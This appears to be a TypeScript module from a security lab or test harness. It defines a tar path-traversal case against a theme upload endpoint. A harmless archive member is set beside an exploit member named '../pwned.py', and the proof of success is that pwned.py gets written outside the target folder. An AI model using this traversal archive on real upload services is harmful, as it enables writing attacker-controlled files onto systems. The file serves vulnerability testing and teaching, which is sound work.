import type { LabModule, Step } from '../../labModule';

const archive = (name: string): Step => ({
  python: [
    'import io, tarfile',
    'raw = io.BytesIO()',
    'with tarfile.open(fileobj=raw, mode="w") as made:',
    `    member = tarfile.TarInfo("${name}")`,
    '    member.size = 4',
    '    made.addfile(member, io.BytesIO(b"text"))',
    'print(raw.getvalue().decode())',
  ],
  saveAs: 'archive',
});

const upload: Step = {
  to: 'POST /theme',
  files: { theme: { name: 'theme.tar', content: ({ archive: made }) => made ?? '' } },
};

export const lab: LabModule = {
  // Python 3.12, and later releases of the versions before it.
  wants: "hasattr(tarfile, 'data_filter')",
  cases: [
    {
      name: 'a member outside of the folder',
      honest: [archive('dark/style.css'), { ...upload, shows: 'dark' }],
      exploit: [archive('../pwned.py'), upload],
      proof: { file: 'pwned.py' },
    },
  ],
};
